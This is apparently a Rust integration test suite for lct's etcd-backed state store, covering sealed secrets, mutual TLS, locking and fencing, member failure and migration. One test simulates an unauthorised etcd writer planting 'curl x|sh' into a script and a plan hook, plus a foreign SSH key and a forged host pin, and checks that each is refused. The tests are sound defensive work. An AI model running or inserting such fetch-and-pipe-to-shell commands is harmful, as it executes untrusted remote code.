//! lct's state on a real three-member etcd on loopback (docs/state.md, the etcd backend): the
//! interface's contract, secrets nobody reads in etcd, mutual TLS, bad input refused with
//! nothing written, racing writers and lock takers, a dead holder's lock running out, and a
//! member killed during writes losing nothing.

use std::sync::Arc;
use std::time::{Duration, Instant};

use lct_core::etcd::{Client, EtcdUrl, Options, TlsFiles};
use lct_core::seal::SealKey;
use lct_core::store::etcd::EtcdStore;
use lct_core::store::{Expect, Holder, Secrecy, Store, StoreError, Wait, contract};
use lct_tests::fixtures::etcd::EtcdCluster;

/// A state key known good.
macro_rules! key {
    ($($arg:tt)*) => {
        lct_core::store::Key::new(format!($($arg)*)).expect("a fixed state key")
    };
}

fn store_at(url: &str, tls: &TlsFiles, key: Option<SealKey>) -> Result<EtcdStore, StoreError> {
    EtcdStore::new(EtcdUrl::parse(url).unwrap(), tls, Options::default(), key)
}

fn seal_key(dir: &std::path::Path, name: &str) -> SealKey {
    SealKey::generate(&dir.join(name)).unwrap()
}

fn count(cluster: &EtcdCluster, prefix: &str) -> usize {
    let out = cluster.etcdctl(&["get", "--prefix", "--keys-only", prefix]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).lines().filter(|l| !l.is_empty()).count()
}

#[test]
fn etcd_keeps_the_contract_and_no_secret_in_clear() {
    let cluster = EtcdCluster::start(3, false);
    let dir = cluster.dir.path();
    let store = store_at(&cluster.url("team/lct"), &TlsFiles::default(), Some(seal_key(dir, "state.key"))).unwrap();
    contract::check(&store);

    // Secrets as lct keeps them: an SSH private key, a plan's generated password.
    let private = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n";
    store.put_secret(&key!("ssh/id_ed25519"), private.as_bytes(), Expect::Any).unwrap();
    store.put_secret(&key!("plans/pg/cluster.json"), br#"{"password":"Zq8pV3sWm1xK"}"#, Expect::Absent).unwrap();
    store.put(&key!("clusters.jsonl"), b"{\"kind\":\"cluster\",\"name\":\"pg\"}\n", Secrecy::Public).unwrap();
    let dump = cluster.dump("team/lct/");
    let text = String::from_utf8_lossy(&dump);
    assert!(!text.contains("PRIVATE KEY") && !text.contains("b3BlbnNzaC1rZXkt"), "a private key in clear:\n{text}");
    assert!(!text.contains("Zq8pV3sWm1xK"), "a password in clear:\n{text}");
    assert!(text.contains("\"name\":\"pg\""), "public records stay readable:\n{text}");
    assert!(text.contains("team/lct/.lct"), "the prefix is marked as lct's:\n{text}");
    assert_eq!(store.get_secret(&key!("ssh/id_ed25519")).unwrap().unwrap().value, private.as_bytes());

    // Another key file: refused before anything is sealed with it, and reads say why.
    let other = store_at(&cluster.url("team/lct"), &TlsFiles::default(), Some(seal_key(dir, "other.key"))).unwrap();
    let before = cluster.dump("team/lct/");
    let e = other.put_secret(&key!("secrets/x"), b"s3cret", Expect::Any).unwrap_err().to_string();
    assert!(e.contains("sealed with key") && e.contains("nothing was written"), "{e}");
    assert_eq!(cluster.dump("team/lct/"), before, "nothing written");
    let e = other.get(&key!("ssh/id_ed25519")).unwrap_err().to_string();
    assert!(e.contains("ssh/id_ed25519") && e.contains("sealed with key"), "{e}");

    // A prefix holding another program's keys: refused, nothing of lct's written there.
    let out = cluster.etcdctl(&["put", "apps/config/db", "postgres://x"]);
    assert!(out.status.success());
    let foreign = store_at(&cluster.url("apps"), &TlsFiles::default(), Some(seal_key(dir, "f.key"))).unwrap();
    for e in [
        foreign.put(&key!("clusters.jsonl"), b"x", Secrecy::Public).unwrap_err(),
        foreign.get(&key!("clusters.jsonl")).unwrap_err(),
        foreign.lock(&key!("plans/zk"), &Holder::here("t"), Duration::from_secs(5), Wait::No).unwrap_err(),
    ] {
        let e = e.to_string();
        assert!(e.contains("apps/") && e.contains("lct did not write") && e.contains("nothing was written"), "{e}");
    }
    assert_eq!(count(&cluster, "apps/"), 1, "only the other program's key");
}

#[test]
fn etcd_over_mutual_tls_and_bad_certificates() {
    let cluster = EtcdCluster::start(3, true);
    let certs = cluster.certs.as_ref().unwrap();
    let dir = cluster.dir.path();
    let good = TlsFiles {
        ca: Some(certs.ca.clone()),
        cert: Some(certs.client_cert.clone()),
        key: Some(certs.client_key.clone()),
    };
    let store = store_at(&cluster.url("lct"), &good, Some(seal_key(dir, "k"))).unwrap();
    store.put(&key!("clusters.jsonl"), b"{}\n", Secrecy::Public).unwrap();
    assert_eq!(store.get(&key!("clusters.jsonl")).unwrap().unwrap().value, b"{}\n");
    let written = count(&cluster, "lct/");

    let started = Instant::now();
    let bad = [
        ("a CA that did not sign the members", TlsFiles { ca: Some(certs.other_ca.clone()), ..good.clone() }),
        (
            "a client certificate of another CA",
            TlsFiles { cert: Some(certs.other_cert.clone()), key: Some(certs.other_key.clone()), ..good.clone() },
        ),
        ("no client certificate", TlsFiles { ca: Some(certs.ca.clone()), cert: None, key: None }),
    ];
    for (i, (what, tls)) in bad.into_iter().enumerate() {
        let store = store_at(&cluster.url("lct"), &tls, Some(seal_key(dir, &format!("k-{i}")))).unwrap();
        let e = store.put(&key!("clusters.jsonl"), b"changed", Secrecy::Public).unwrap_err().to_string();
        assert!(e.contains("no member answered") && e.contains("nothing was written"), "{what}: {e}");
        assert!(e.contains("127.0.0.1:"), "{what}: the error names the members: {e}");
    }
    assert!(started.elapsed() < Duration::from_secs(30), "bad certificates fail quickly");
    assert_eq!(count(&cluster, "lct/"), written);
    assert_eq!(store.get(&key!("clusters.jsonl")).unwrap().unwrap().value, b"{}\n");

    // A client key others may read is refused before anything is connected to.
    let loose = dir.join("loose.key");
    std::fs::copy(&certs.client_key, &loose).unwrap();
    std::fs::set_permissions(&loose, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    let e = store_at(&cluster.url("lct"), &TlsFiles { key: Some(loose), ..good.clone() }, None).unwrap_err();
    assert!(e.to_string().contains("loose.key") && e.to_string().contains("chmod 600"), "{e}");
    // TLS files with a plain URL: refused (the operator meant TLS).
    let plain = cluster.url("lct").replace("etcds://", "etcd://");
    let e = store_at(&plain, &good, None).unwrap_err().to_string();
    assert!(e.contains("etcds://"), "{e}");
}

#[test]
fn unreachable_etcd_is_said_quickly() {
    let ports: Vec<u16> = (0..3).map(|_| lct_tests::free_port()).collect();
    let url = format!("etcd://{}/lct", ports.iter().map(|p| format!("127.0.0.1:{p}")).collect::<Vec<_>>().join(","));
    let store = store_at(&url, &TlsFiles::default(), None).unwrap();
    let started = Instant::now();
    let e = store.put(&key!("clusters.jsonl"), b"x", Secrecy::Public).unwrap_err().to_string();
    assert!(started.elapsed() < Duration::from_secs(10), "took {:?}", started.elapsed());
    assert!(e.contains("no member answered") && e.contains("nothing was written"), "{e}");
    for p in ports {
        assert!(e.contains(&format!("127.0.0.1:{p}")), "{e}");
    }
}

#[test]
fn racing_writers_one_wins_and_a_dead_holders_lock_runs_out() {
    let cluster = EtcdCluster::start(3, false);
    let dir = cluster.dir.path();
    let url = cluster.url("lct");
    let a = Arc::new(store_at(&url, &TlsFiles::default(), Some(seal_key(dir, "k"))).unwrap());
    let b = Arc::new(store_at(&url, &TlsFiles::default(), Some(SealKey::load(&dir.join("k")).unwrap())).unwrap());

    // Two controllers (separate clients and connections) make the same node record at once,
    // again and again: exactly one wins each time, the other is told of the conflict.
    for round in 0..20 {
        let node = key!("nodes/zk-{round}");
        let results: Vec<Result<_, StoreError>> = std::thread::scope(|s| {
            let ha = s.spawn(|| a.put_if(&node, b"from a", Secrecy::Public, Expect::Absent));
            let hb = s.spawn(|| b.put_if(&node, b"from b", Secrecy::Public, Expect::Absent));
            vec![ha.join().unwrap(), hb.join().unwrap()]
        });
        assert_eq!(results.iter().filter(|r| r.is_ok()).count(), 1, "round {round}: {results:?}");
        assert!(results.iter().any(|r| matches!(r, Err(e) if e.is_conflict())), "round {round}: {results:?}");
    }

    // A held lock: the second taker fails at once naming the holder; another cluster's is free.
    let zk = key!("plans/zk");
    let held = a.lock(&zk, &Holder::here("scale zk"), Duration::from_secs(10), Wait::No).unwrap();
    assert!(held.is_held());
    let started = Instant::now();
    let e = b.lock(&zk, &Holder::here("scale zk"), Duration::from_secs(10), Wait::No).unwrap_err();
    assert!(started.elapsed() < Duration::from_secs(2));
    assert!(matches!(&e, StoreError::Held { holder, .. } if holder.pid == std::process::id()), "{e}");
    assert!(e.to_string().contains("scale zk") && e.to_string().contains("since"), "{e}");
    drop(b.lock(&key!("plans/pg"), &Holder::here("scale pg"), Duration::from_secs(10), Wait::No).unwrap());
    // Released: the waiter gets it.
    let waiter = std::thread::spawn({
        let b = b.clone();
        let zk = zk.clone();
        move || b.lock(&zk, &Holder::here("destroy zk"), Duration::from_secs(10), Wait::Upto(Duration::from_secs(20)))
    });
    std::thread::sleep(Duration::from_millis(300));
    drop(held);
    let got = waiter.join().unwrap().unwrap();
    assert_eq!(b.lock_holder(&zk).unwrap().unwrap().operation, "destroy zk");
    drop(got);

    // A controller that died holding the lock: its key hangs on a lease nobody renews (what
    // a killed process leaves). The next taker waits, and gets it once the lease runs out.
    let client = Client::new(&EtcdUrl::parse(&url).unwrap(), &TlsFiles::default(), Options::default()).unwrap();
    let lease = client.lease_grant(3).unwrap();
    let dead = Holder { who: "ops@gone".into(), pid: 4242, operation: "create zk".into(), since: 1 };
    client.put(b"lct/.locks/plans/zk", &serde_json::to_vec(&dead).unwrap(), lease).unwrap();
    let e = b.lock(&zk, &Holder::here("create zk"), Duration::from_secs(10), Wait::No).unwrap_err();
    assert!(e.to_string().contains("ops@gone") && e.to_string().contains("pid 4242"), "{e}");
    let started = Instant::now();
    let got = b.lock(&zk, &Holder::here("create zk"), Duration::from_secs(10), Wait::Upto(Duration::from_secs(20)));
    let waited = started.elapsed();
    assert!(got.is_ok(), "{:?}", got.err());
    assert!(waited < Duration::from_secs(6), "the dead holder's lock ran out within its 3 s lease: {waited:?}");
    drop(got);

    // The operator breaks a live holder's lock: refused unless forced; then told who held
    // it, and the holder sees it lost.
    let held = a.lock(&zk, &Holder::here("reconcile zk"), Duration::from_secs(3), Wait::No).unwrap();
    let e = b.unlock(&zk).unwrap_err();
    assert!(matches!(&e, StoreError::Held { holder, .. } if holder.operation == "reconcile zk"), "{e}");
    assert!(held.is_held());
    let broken = b.force_unlock(&zk).unwrap().unwrap();
    assert_eq!(broken.operation, "reconcile zk");
    assert!(b.lock_holder(&zk).unwrap().is_none());
    lct_tests::fixtures::until("the holder sees its lock broken", Duration::from_secs(5), || !held.is_held());
}

#[test]
fn a_member_killed_during_writes_loses_nothing() {
    let mut cluster = EtcdCluster::start(3, false);
    let dir = cluster.dir.path().to_path_buf();
    let store = Arc::new(store_at(&cluster.url("lct"), &TlsFiles::default(), Some(seal_key(&dir, "k"))).unwrap());
    let writer = std::thread::spawn({
        let store = store.clone();
        move || {
            let mut acknowledged = Vec::new();
            let mut failed = Vec::new();
            for i in 0..300 {
                let key = key!("nodes/n-{i}");
                let value = format!("{{\"name\":\"n-{i}\"}}");
                match store.put_if(&key, value.as_bytes(), Secrecy::Public, Expect::Absent) {
                    Ok(_) => acknowledged.push((key, value)),
                    Err(e) => failed.push(e.to_string()),
                }
            }
            (acknowledged, failed)
        }
    });
    // The first endpoint is the one the client prefers: kill it mid-way.
    lct_tests::fixtures::until("writes under way", Duration::from_secs(30), || {
        store.keys(&key!("nodes")).map(|k| k.len() >= 50).unwrap_or(false)
    });
    cluster.kill(0);
    let at_kill = store.keys(&key!("nodes")).unwrap().len();
    let (acknowledged, failed) = writer.join().unwrap();
    assert!(at_kill < 300, "the member died while writes went on ({at_kill} of 300 written then)");
    assert!(failed.is_empty(), "writes failed with a member down: {failed:?}");
    let kept = store.list(&key!("nodes")).unwrap();
    assert_eq!(kept.len(), 300);
    for (key, value) in &acknowledged {
        let got = kept.iter().find(|(k, _)| k == key).unwrap_or_else(|| panic!("{key} lost"));
        assert_eq!(got.1.value, value.as_bytes());
    }
    // Back again: it catches up with what it missed.
    cluster.restart(0);
    lct_tests::fixtures::until("the restarted member catches up", Duration::from_secs(30), || {
        let single = format!("etcd://127.0.0.1:{}/lct", cluster.members[0].client_port);
        let one = store_at(&single, &TlsFiles::default(), Some(SealKey::load(&dir.join("k")).unwrap())).unwrap();
        one.keys(&key!("nodes")).map(|k| k.len() == 300).unwrap_or(false)
    });
}

#[test]
fn two_processes_change_cluster_records_at_once_and_unlock_names_the_holder() {
    let cluster = EtcdCluster::start(3, false);
    let env = lct_tests::Env::new();
    let url = cluster.url("lct");
    let key_file = cluster.dir.path().join("state.key");
    SealKey::generate(&key_file).unwrap();
    // Two controllers (processes), ten cluster records each, all at once, on one key
    // (clusters.jsonl): compare-and-swap of its revision, so no update is lost.
    let spawn = |side: &'static str| {
        let env = &env;
        let url = url.clone();
        let key_file = key_file.clone();
        move || {
            for i in 0..10 {
                let name = format!("{side}{i}");
                let run = lct_tests::Run::from(
                    env.command("lct-inventory", &["clusters", "set", &name, "--domain", &format!("{name}.example")])
                        .env("LCT_STATE", &url)
                        .env("LCT_STATE_KEY", &key_file)
                        .output()
                        .unwrap(),
                );
                assert_eq!(run.status, 0, "{}", run.stderr);
            }
        }
    };
    std::thread::scope(|s| {
        s.spawn(spawn("a"));
        s.spawn(spawn("b"));
    });
    let list = lct_tests::Run::from(
        env.command("lct-inventory", &["clusters", "list", "-o", "jsonl"])
            .env("LCT_STATE", &url)
            .env("LCT_STATE_KEY", &key_file)
            .output()
            .unwrap(),
    )
    .ok();
    // Without the team's key nothing is read: every value is sealed or tagged with it.
    let run = lct_tests::Run::from(
        env.command("lct-inventory", &["clusters", "list", "-o", "jsonl"]).env("LCT_STATE", &url).output().unwrap(),
    );
    assert_eq!(run.status, 1, "{}", run.stdout);
    assert!(run.stderr.contains("LCT_STATE_KEY"), "{}", run.stderr);
    let names: std::collections::BTreeSet<String> =
        list.json_lines().iter().map(|c| c["name"].as_str().unwrap().to_string()).collect();
    assert_eq!(names.len(), 20, "{names:?}");
    assert!(std::fs::read_dir(env.state.path()).unwrap().next().is_none(), "nothing in the local directory");

    // `lct-plan unlock` names the holder of a lock whose lease is alive and leaves it (its
    // holder may still run); `--force` takes it away.
    let client = Client::new(&EtcdUrl::parse(&url).unwrap(), &TlsFiles::default(), Options::default()).unwrap();
    let lease = client.lease_grant(60).unwrap();
    let dead = Holder { who: "ops@ctl-2".into(), pid: 4242, operation: "scale zk".into(), since: 1_796_000_000 };
    client.put(b"lct/.locks/plans/zk", &serde_json::to_vec(&dead).unwrap(), lease).unwrap();
    let unlock = |args: &[&str]| {
        lct_tests::Run::from(
            env.command("lct-plan", args).env("LCT_STATE", &url).env("LCT_STATE_KEY", &key_file).output().unwrap(),
        )
    };
    let run = unlock(&["unlock", "zk"]);
    assert_eq!(run.status, 1, "{}", run.stderr);
    assert!(run.stderr.contains("ops@ctl-2") && run.stderr.contains("unlock --force zk"), "{}", run.stderr);
    assert!(client.get(b"lct/.locks/plans/zk").unwrap().is_some(), "a live holder's lock is left");
    let run = unlock(&["unlock", "--force", "zk"]);
    assert_eq!(run.status, 0, "{}", run.stderr);
    let said = format!("{}{}", run.stdout, run.stderr);
    assert!(said.contains("ops@ctl-2") && said.contains("4242") && said.contains("scale zk"), "{said}");
    assert!(client.get(b"lct/.locks/plans/zk").unwrap().is_none());
    assert_eq!(client.lease_ttl(lease).unwrap(), None, "the holder's lease is revoked");
}

#[test]
fn migrate_to_etcd_and_back_gives_identical_records_and_leaves_the_source() {
    use std::os::unix::fs::PermissionsExt;
    let cluster = EtcdCluster::start(3, false);
    let env = lct_tests::Env::new();
    let dir = cluster.dir.path();
    let source = dir.join("source");
    let files: &[(&str, &str, u32)] = &[
        ("clusters.jsonl", "{\"kind\":\"cluster\",\"v\":1,\"name\":\"zk\"}\n", 0o644),
        ("ssh/id_ed25519", "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAAC3NzaC1lZDI1NTE5\n", 0o600),
        ("ssh/known_hosts", "[203.0.113.4]:22 ssh-ed25519 AAAA\n", 0o644),
        ("plans/zk/cluster.json", "{\"parameters\":{\"password\":\"Xk2LqP9mW4\"}}", 0o600),
        ("plans/zk/events.jsonl", "{\"event\":\"created\"}\n", 0o644),
        ("images/bakes/zb.json", "{\"root\":\"abc\"}", 0o600),
        ("dns/linode-example.com.json", "{\"domain_id\":1,\"records\":[7]}", 0o644),
    ];
    for (path, text, mode) in files {
        let p = source.join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(*mode)).unwrap();
    }
    // A hook's log stays on the machine that ran it.
    std::fs::create_dir_all(source.join("plans/zk/logs")).unwrap();
    std::fs::write(source.join("plans/zk/logs/1.log"), "hook output").unwrap();
    // A DNS server's own data in the same directory (its signing key) is not lct's state.
    std::fs::create_dir_all(source.join("dns/dnssec")).unwrap();
    std::fs::write(source.join("dns/dnssec/example.com.json"), "zone signing key").unwrap();
    let snapshot = |root: &std::path::Path| {
        let out = std::process::Command::new("find").arg(root).args(["-printf", "%P %m %s %T@\n"]).output().unwrap();
        let mut lines: Vec<String> = String::from_utf8(out.stdout).unwrap().lines().map(String::from).collect();
        lines.sort();
        lines
    };
    let before = snapshot(&source);
    let key_file = dir.join("state.key");
    SealKey::generate(&key_file).unwrap();
    let migrate = |from: &str, to: &str| {
        lct_tests::Run::from(
            env.command("lct-inventory", &["state", "migrate", "--from", from, "--to", to])
                .env("LCT_STATE_KEY", &key_file)
                .output()
                .unwrap(),
        )
    };
    let url = cluster.url("lct");
    let run = migrate(source.to_str().unwrap(), &url).ok();
    assert!(run.stderr.contains("migrated 7 key(s) (3 secret"), "{}", run.stderr);
    assert_eq!(snapshot(&source), before, "the source is untouched");
    let dump = String::from_utf8_lossy(&cluster.dump("lct/")).into_owned();
    assert!(!dump.contains("PRIVATE KEY") && !dump.contains("Xk2LqP9mW4") && !dump.contains("abc"), "{dump}");
    // The old one-value event log became one key per event.
    assert!(!dump.contains("hook output") && !dump.contains("lct/plans/zk/events.jsonl"), "{dump}");
    assert!(dump.contains("lct/plans/zk/events/0000000000000000-log000000"), "{dump}");
    assert!(!dump.contains("zone signing key") && dump.contains("lct/dns/linode-example.com.json"), "{dump}");

    // Again into a store holding exactly this source's keys: nothing to do (a resumed run).
    let again = migrate(source.to_str().unwrap(), &url).ok();
    assert!(again.stderr.contains("7 already there"), "{}", again.stderr);
    // Into a store that holds other state: refused, nothing copied.
    std::fs::write(source.join("ssh/known_hosts"), "[203.0.113.4]:22 ssh-ed25519 BBBB\n").unwrap();
    let before_refusal = cluster.dump("lct/");
    let again = migrate(source.to_str().unwrap(), &url);
    assert_eq!(again.status, 1);
    assert!(again.stderr.contains("migrate only into an empty store"), "{}", again.stderr);
    assert_eq!(cluster.dump("lct/"), before_refusal);

    // And back: byte-identical files with the same modes.
    let back = dir.join("back");
    migrate(&url, back.to_str().unwrap()).ok();
    for (path, text, mode) in files {
        let path = if *path == "plans/zk/events.jsonl" { "plans/zk/events/0000000000000000-log000000" } else { path };
        let p = back.join(path);
        assert_eq!(std::fs::read_to_string(&p).unwrap(), *text, "{path}");
        let got = std::os::unix::fs::MetadataExt::mode(&std::fs::metadata(&p).unwrap()) & 0o777;
        assert_eq!(got, *mode, "{path}");
    }
    assert!(!back.join("plans/zk/logs").exists());
    assert!(!back.join("dns/dnssec").exists());
    // A source naming nothing of lct's: said, nothing copied.
    let empty = migrate(dir.join("nothing").to_str().unwrap(), &cluster.url("other"));
    assert_eq!(empty.status, 1);
    assert!(empty.stderr.contains("holds no lct state"), "{}", empty.stderr);
    assert_eq!(count(&cluster, "other/"), 0);
}

#[test]
fn a_migration_refused_before_its_first_write_leaves_nothing_and_runs_again() {
    let cluster = EtcdCluster::start(3, false);
    let env = lct_tests::Env::new();
    let dir = cluster.dir.path();
    let source = dir.join("source");
    for (path, text) in [
        ("clusters.jsonl", "{\"kind\":\"cluster\",\"v\":1,\"name\":\"zk\"}\n"),
        ("plans/zk/cluster.json", "{\"parameters\":{}}"),
        ("plans/zk/plan.yaml", "name: zk\n"),
    ] {
        std::fs::create_dir_all(source.join(path).parent().unwrap()).unwrap();
        std::fs::write(source.join(path), text).unwrap();
    }
    let key_file = dir.join("state.key");
    SealKey::generate(&key_file).unwrap();
    let url = cluster.url("lct");
    let migrate = |key: Option<&std::path::Path>| {
        let mut command =
            env.command("lct-inventory", &["state", "migrate", "--from", source.to_str().unwrap(), "--to", &url]);
        if let Some(key) = key {
            command.env("LCT_STATE_KEY", key);
        }
        lct_tests::Run::from(command.output().unwrap())
    };
    // No key: said before anything is written (the public records sort first, and are not
    // written ahead of the secrets that fail).
    let run = migrate(None);
    assert_eq!(run.status, 1);
    assert!(run.stderr.contains("LCT_STATE_KEY"), "{}", run.stderr);
    assert_eq!(count(&cluster, "lct/"), 0, "nothing in the target, not even its mark");
    // A value over etcd's bound on a request: said, naming the key, nothing written.
    std::fs::create_dir_all(source.join("plans/zk/files")).unwrap();
    std::fs::write(source.join("plans/zk/files/big.bin"), vec![b'x'; 1600 * 1024]).unwrap();
    let run = migrate(Some(&key_file));
    assert_eq!(run.status, 1);
    assert!(run.stderr.contains("plans/zk/files/big.bin") && run.stderr.contains("bound"), "{}", run.stderr);
    assert_eq!(count(&cluster, "lct/"), 0);
    // With the key and within bounds: it runs.
    std::fs::remove_file(source.join("plans/zk/files/big.bin")).unwrap();
    let run = migrate(Some(&key_file)).ok();
    assert!(run.stderr.contains("migrated 3 key(s) (2 secret"), "{}", run.stderr);
}

#[test]
fn values_written_without_the_teams_key_are_refused_naming_the_key() {
    let cluster = EtcdCluster::start(3, false);
    let dir = cluster.dir.path();
    let store = store_at(&cluster.url("lct"), &TlsFiles::default(), Some(seal_key(dir, "k"))).unwrap();
    let client =
        Client::new(&EtcdUrl::parse(&cluster.url("lct")).unwrap(), &TlsFiles::default(), Options::default()).unwrap();
    store.put(&key!("plans/zk/plan.yaml"), b"name: zk\n", Secrecy::Public).unwrap();
    store.put(&key!("plans/zk/files/configure.sh"), b"#!/bin/sh\ntrue\n", Secrecy::Public).unwrap();
    store.put(&key!("clusters.jsonl"), b"{\"name\":\"zk\"}\n", Secrecy::Public).unwrap();
    let ssh = lct_core::ssh::SshFiles::on(Arc::new(
        store_at(&cluster.url("lct"), &TlsFiles::default(), Some(SealKey::load(&dir.join("k")).unwrap())).unwrap(),
    ))
    .unwrap();
    let ours = ssh.ensure_identity().unwrap();
    // The key decides secrecy: a plan written as "public" is sealed all the same.
    let dump = String::from_utf8_lossy(&cluster.dump("lct/")).into_owned();
    assert!(!dump.contains("name: zk") && !dump.contains("#!/bin/sh"), "{dump}");
    assert!(dump.contains("{\"name\":\"zk\"}") && dump.contains(&ours), "public values stay readable: {dump}");

    // An etcd writer without the key: a plain script and plan, a foreign public key, a
    // forged pin. Each is refused where it is read, naming its key; nothing runs from it.
    let attacker = lct_core::ssh::generate_key("attacker").unwrap();
    let put = |key: &str, value: &[u8]| client.put(format!("lct/{key}").as_bytes(), value, 0).unwrap();
    put("plans/zk/files/configure.sh", b"#!/bin/sh\ncurl x|sh\n");
    put("plans/zk/plan.yaml", b"name: zk\nhooks: {created: [{run: 'curl x|sh'}]}\n");
    put("ssh/id_ed25519.pub", format!("{} attacker\n", attacker.public).as_bytes());
    put("ssh/known_hosts", b"zk-1 ssh-ed25519 AAAAforged\n");
    for (key, kind) in [
        ("plans/zk/files/configure.sh", "expected a sealed value"),
        ("plans/zk/plan.yaml", "expected a sealed value"),
        ("ssh/id_ed25519.pub", "plain value"),
        ("ssh/known_hosts", "plain value"),
    ] {
        let e = store.get(&key!("{key}")).unwrap_err().to_string();
        assert!(e.contains(key) && e.contains(kind) && e.contains("LCT_STATE_KEY"), "{key}: {e}");
    }
    let e = ssh.authorized_keys().unwrap_err().to_string();
    assert!(e.contains("ssh/id_ed25519.pub"), "{e}");
    assert!(!ssh.authorized_keys().is_ok_and(|k| k.contains(&format!("{} attacker", attacker.public))));

    // Values moved rather than written: a tagged (public) value put at a secret key, a
    // sealed one at another key, a value of another store sharing the key file.
    let raw = |key: &str| client.get(format!("lct/{key}").as_bytes()).unwrap().unwrap().value;
    put("plans/zk/cluster.json", &raw("clusters.jsonl"));
    let e = store.get(&key!("plans/zk/cluster.json")).unwrap_err().to_string();
    assert!(e.contains("plans/zk/cluster.json") && e.contains("only tagged"), "{e}");
    put("plans/pg/cluster.json", &raw("ssh/id_ed25519"));
    let e = store.get(&key!("plans/pg/cluster.json")).unwrap_err().to_string();
    assert!(e.contains("plans/pg/cluster.json") && e.contains("does not open"), "{e}");
    let other =
        store_at(&cluster.url("other"), &TlsFiles::default(), Some(SealKey::load(&dir.join("k")).unwrap())).unwrap();
    other.put(&key!("ssh/known_hosts"), b"zk-1 ssh-ed25519 AAAAother\n", Secrecy::Public).unwrap();
    put("clusters.jsonl", &client.get(b"other/ssh/known_hosts").unwrap().unwrap().value);
    let e = store.get(&key!("clusters.jsonl")).unwrap_err().to_string();
    assert!(e.contains("clusters.jsonl") && e.contains("does not hold"), "{e}");
}

#[test]
fn a_lost_lock_fences_its_holders_writes_and_a_destroyed_cluster_stays_gone() {
    use lct_core::store::Txn;
    let cluster = EtcdCluster::start(3, false);
    let dir = cluster.dir.path();
    let url = cluster.url("lct");
    let a = store_at(&url, &TlsFiles::default(), Some(seal_key(dir, "k"))).unwrap();
    let b = store_at(&url, &TlsFiles::default(), Some(SealKey::load(&dir.join("k")).unwrap())).unwrap();
    let client = Client::new(&EtcdUrl::parse(&url).unwrap(), &TlsFiles::default(), Options::default()).unwrap();
    let (zk, state) = (key!("plans/zk"), key!("plans/zk/cluster.json"));
    let save = |store: &EtcdStore, guard: &dyn lct_core::store::LockGuard, value: &[u8]| {
        store.commit(&Txn::new().fenced(guard).put(&state, value.to_vec(), Secrecy::Secret))
    };

    // A holds zk's lock and saves under it.
    let held_a = a.lock(&zk, &Holder::here("scale zk"), Duration::from_secs(30), Wait::No).unwrap();
    save(&a, &*held_a, b"{\"counts\":5}").unwrap();
    // A pauses; its lease is revoked from outside (what a lease running out does).
    let lease = client.get(b"lct/.locks/plans/zk").unwrap().unwrap().lease;
    client.lease_revoke(lease).unwrap();
    // B takes the lock, saves, destroys the cluster (a fenced delete of its prefix).
    let held_b = b.lock(&zk, &Holder::here("destroy zk"), Duration::from_secs(30), Wait::No).unwrap();
    save(&b, &*held_b, b"{\"counts\":3}").unwrap();
    // A resumes: its save is refused (another holds the lock now), B's state stays.
    let e = save(&a, &*held_a, b"{\"counts\":5}").unwrap_err();
    assert!(matches!(&e, StoreError::Fenced { name } if *name == zk), "{e}");
    assert!(e.to_string().contains("plans/zk") && e.to_string().contains("nothing was written"), "{e}");
    assert_eq!(b.get(&state).unwrap().unwrap().value, b"{\"counts\":3}");
    b.commit(&Txn::new().fenced(&*held_b).delete_prefix(&zk)).unwrap();
    drop(held_b);
    // After the destroy, with the lock free: A's late save recreates nothing.
    let e = save(&a, &*held_a, b"{\"counts\":5}").unwrap_err();
    assert!(matches!(e, StoreError::Fenced { .. }), "{e}");
    assert!(a.keys(&zk).unwrap().is_empty(), "a zombie cluster");
    lct_tests::fixtures::until("A sees its lock lost", Duration::from_secs(20), || !held_a.is_held());
    drop(held_a);

    // An operator's forced unlock fences the live holder the same way.
    let held = a.lock(&zk, &Holder::here("reconcile zk"), Duration::from_secs(30), Wait::No).unwrap();
    save(&a, &*held, b"{}").unwrap();
    assert!(matches!(b.unlock(&zk), Err(StoreError::Held { .. })));
    assert_eq!(b.force_unlock(&zk).unwrap().unwrap().operation, "reconcile zk");
    assert!(matches!(save(&a, &*held, b"{\"late\":1}"), Err(StoreError::Fenced { .. })));
    assert_eq!(b.get(&state).unwrap().unwrap().value, b"{}");
}

#[test]
fn a_holder_cut_off_from_etcd_knows_its_lock_lost_within_the_lease() {
    let cluster = EtcdCluster::start(3, false);
    let dir = cluster.dir.path().to_path_buf();
    let store = store_at(&cluster.url("lct"), &TlsFiles::default(), Some(seal_key(&dir, "k"))).unwrap();
    let held = store.lock(&key!("plans/zk"), &Holder::here("scale zk"), Duration::from_secs(3), Wait::No).unwrap();
    assert!(held.is_held());
    // Every member stopped (a partition): renewals hang, each tried for up to 20 s. The holder
    // must not wait for them to learn that its lease (3 s) may have run out meanwhile.
    for i in 0..3 {
        cluster.pause(i, true);
    }
    let started = Instant::now();
    lct_tests::fixtures::until("the holder sees its lock lost", Duration::from_secs(30), || !held.is_held());
    let known = started.elapsed();
    for i in 0..3 {
        cluster.pause(i, false);
    }
    assert!(known < Duration::from_secs(4), "known late: {known:?}");
    drop(held);
}
